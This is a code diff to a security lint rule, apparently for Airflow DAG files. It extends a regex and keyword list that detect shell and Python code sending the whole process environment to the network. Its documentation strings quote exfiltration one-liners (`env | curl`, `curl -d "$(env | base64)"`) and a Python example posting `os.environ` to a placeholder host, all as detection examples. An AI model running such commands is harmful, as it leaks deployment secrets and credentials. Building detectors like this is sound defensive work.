@@ -7,8 +7,9 @@ import { offsets, stringsWithShape } from './_shell-shapes';
 import { targetText } from './_write-target';
 
 /** `env`/`printenv` piped or written, then a network client in the same command. */
-const SHELL_ENV_EXFIL = /(?:^|[\s;&|(`'"])(?:env|printenv)\s*(?:\||>)[^\n]*?\b(?:curl|wget|nc|ncat|netcat|socat)\b/;
-const mayDumpEnvInShell = (text: string): boolean => /printenv|env\s*[|>]/.test(text);
+const SHELL_ENV_EXFIL =
+  /(?:^|[\s;&|(`'"])(?:env|printenv)\s*(?:\||>)[^\n]*?\b(?:curl|wget|nc|ncat|netcat|socat)\b|\b(?:curl|wget)\b[^\n]*?(?:\$\(|`)\s*(?:env|printenv)\b/;
+const mayDumpEnvInShell = (text: string): boolean => /printenv|env\s*[|>)`]/.test(text);
 
 type DumpKind = 'copy' | 'serialize' | 'iterate';
 interface Dump {
@@ -39,7 +40,7 @@ export default defineRule({
     message: 'dumps the whole process environment{where}',
     docs: {
       what:
-        'Finds code that takes the whole of `os.environ` rather than one variable: `dict(os.environ)`, `os.environ.copy()`, `{**os.environ}`, `json.dumps(os.environ)`, `str(os.environ)`, f-string interpolation, iteration over `os.environ` / `.items()`; and shell commands that send it away (`env | curl --data-binary @- …`, `printenv > f && curl -F f=@f …`: critical). Critical anywhere when the dump visibly goes to the network or a file (`requests.post(url, json=dict(os.environ))`, also through a variable); at parse time: high when the file also reaches the network at parse time, medium for serialization/iteration, low for a plain copy. Passing the environment on as `env=` (`BashOperator(env={**os.environ, ...})`, `subprocess.run(..., env=os.environ.copy())`) is not reported.',
+        'Finds code that takes the whole of `os.environ` rather than one variable: `dict(os.environ)`, `os.environ.copy()`, `{**os.environ}`, `json.dumps(os.environ)`, `str(os.environ)`, f-string interpolation, iteration over `os.environ` / `.items()`; and shell commands that send it away (`env | curl --data-binary @- …`, `printenv > f && curl -F f=@f …`, `curl -d "$(env | base64)" …`: critical). Critical anywhere when the dump visibly goes to the network or a file (`requests.post(url, json=dict(os.environ))`, also through a variable); at parse time: high when the file also reaches the network at parse time, medium for serialization/iteration, low for a plain copy. Passing the environment on as `env=` (`BashOperator(env={**os.environ, ...})`, `subprocess.run(..., env=os.environ.copy())`) is not reported.',
       why:
         'The environment of the dag-processor holds `AIRFLOW__DATABASE__SQL_ALCHEMY_CONN`, `AIRFLOW__CORE__FERNET_KEY`, cloud credentials and every secret injected by the deployment. Collecting all of it is the first step of GuardDog\'s "exfiltrate-sensitive-data" pattern; in a DAG file it runs on every parse, before any task or review of task logs.',
       example: '```python\nimport json, os, requests\nrequests.post("https://hooks.example.net/c", data=json.dumps(dict(os.environ)))\n```',
@@ -49,7 +50,7 @@ export default defineRule({
   // `os.environ` is found in the text and located in the tree: a tree-wide `(identifier)` query would cost more
   // than every other rule together.
   // 'env \\': `env \⏎ | curl …` continued over lines (see _shell-shapes.ts)
-  keywords: ['environ', 'printenv', 'env |', 'env|', 'env >', 'env \\'],
+  keywords: ['environ', 'printenv', 'env |', 'env|', 'env >', 'env \\', '$(env', '`env'],
   onFile(ctx) {
     // a shell command that sends the environment away: `env | curl --data-binary @- …`, `printenv > f && curl -F f=@f …`
     stringsWithShape(ctx, mayDumpEnvInShell, SHELL_ENV_EXFIL, (s) =>
